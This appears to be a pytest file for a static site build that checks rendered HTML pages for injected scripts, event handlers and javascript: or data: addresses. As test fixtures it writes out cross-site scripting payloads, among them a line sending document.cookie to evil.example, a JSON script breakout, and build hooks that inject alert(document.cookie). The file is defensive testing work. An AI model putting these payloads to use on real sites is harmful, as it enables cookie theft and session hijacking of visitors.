"""The rendered page is checked too: HTML that slipped past the source checks (a Markdown
extension, a template, a generator) still fails the build."""

from __future__ import annotations

from pathlib import Path

from commons.render.rendered_check import content_issues, page_issues, theme_scripts
from helpers import ROOT
from hostile import refused_with_hook

MATERIAL = next((ROOT / ".venv/lib").glob("python3*/site-packages/material/templates"))
THEME = theme_scripts((str(ROOT / "site-overrides"), str(MATERIAL)))


def test_theme_scripts_are_recognised_and_others_are_not():
    page = ('<script>__md_scope=new URL(".",location),__md_hash=e=>0</script>'
            '<script id="__config" type="application/json">{"base": "."}</script>'
            '<script src="assets/javascripts/bundle.js"></script>')
    assert page_issues(page, THEME) == []
    assert page_issues("<p>x</p>\n<script>fetch('https://evil.example/?c='+document.cookie)"
                       "</script>", THEME) == [
        "line 2: an inline script that is not the theme's: "
        "'fetch('https://evil.example/?c='+document.cookie)'"]


def test_script_breaking_out_of_json_is_caught():
    page = ('<script type="application/ld+json">{"name": "x</script>'
            '<script>alert(1)</script>"}</script>')
    assert page_issues(page, THEME) == [
        "line 1: an inline script that is not the theme's: 'alert(1)'"]


def test_third_party_script_and_handlers_anywhere_on_the_page():
    page = ('<nav><a href="#" onmouseover="alert(1)">Home</a></nav>\n'
            '<script src="https://cdn.evil.example/x.js"></script>\n'
            '<a href=" javascript:alert(1)">x</a>')
    assert page_issues(page, THEME) == [
        "line 1: an event handler 'onmouseover' on <a>",
        "line 2: a script from another site, 'https://cdn.evil.example/x.js'",
        "line 3: on <a href>, the address 'javascript:alert(1)' uses 'javascript:', which is "
        "not allowed"]


def test_content_may_not_carry_frames_styles_or_data_images():
    html = ('<p>a</p><iframe src="https://example.org"></iframe>\n'
            '<p style="color:red">b</p><img src="data:image/svg+xml,<svg onload=alert(1)>">')
    assert content_issues(html) == [
        "line 1: a <iframe> element in the page content",
        "line 2: a style attribute on <p>",
        "line 2: on <img src>, the address 'data:image/svg+xml,<svg onload=alert(1)>' uses "
        "'data:', which is not allowed"]


MARKDOWN_EXTENSION_GONE_WRONG = '''
def on_page_content(html, page, config, files):
    if page.file.src_uri == "policies/learning.md":
        html += '<p><a href="javascript:alert(1)">more</a><img src=x onerror=alert(2)></p>'
    return html
'''

TEMPLATE_GONE_WRONG = '''
def on_post_page(output, page, config):
    if page.file.src_uri == "index.md":
        output = output.replace("</body>", "<script>alert(document.cookie)</script></body>")
    return output
'''


def test_html_that_slipped_past_the_source_checks_fails_the_build(mini_built, tmp_path):
    result = refused_with_hook(mini_built, tmp_path, MARKDOWN_EXTENSION_GONE_WRONG)
    assert ("content/policies/learning.md: rendered HTML, line 2: on <a href>, the address "
            "'javascript:alert(1)' uses 'javascript:', which is not allowed") in result.stderr
    assert ("content/policies/learning.md: rendered HTML, line 2: an event handler 'onerror' "
            "on <img>") in result.stderr


def test_script_added_to_the_finished_page_fails_the_build(mini_built, tmp_path):
    result = refused_with_hook(mini_built, tmp_path, TEMPLATE_GONE_WRONG)
    assert "content/index.md: rendered HTML, line" in result.stderr
    assert "an inline script that is not the theme's: 'alert(document.cookie)'" in result.stderr


def test_the_shipped_theme_passes_its_own_check(mini_site):
    site = mini_site
    pages = sorted(Path(site).rglob("*.html"))
    assert pages
    assert {str(p.relative_to(site)): page_issues(p.read_text(encoding="utf-8"), THEME)
            for p in pages if page_issues(p.read_text(encoding="utf-8"), THEME)} == {}
